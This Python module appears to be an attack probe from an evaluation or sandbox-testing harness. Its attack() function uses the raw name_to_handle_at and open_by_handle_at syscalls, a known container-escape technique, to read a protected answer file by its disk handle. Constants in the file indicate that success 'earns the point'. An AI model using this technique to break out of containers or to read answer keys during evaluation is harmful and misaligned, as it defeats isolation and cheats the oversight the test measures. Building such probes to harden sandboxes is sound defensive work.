"""Opens a file by its number on the disk, which is how containers were once left."""

import ctypes
import json
import os
import struct

import numpy as np

UNPROTECTED = "earns the point"
NEEDS = "root"
RAISES = "PermissionError"
MACHINE = "x86_64"


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
    mount = ctypes.c_int()
    path = target["answer"].encode()
    if libc.syscall(303, -100, path, handle, ctypes.byref(mount), 0) != 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    folder = os.open(os.path.dirname(target["answer"]), os.O_RDONLY)
    descriptor = libc.syscall(304, folder, handle, os.O_RDONLY)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return np.array(json.loads(os.read(descriptor, 1000)))
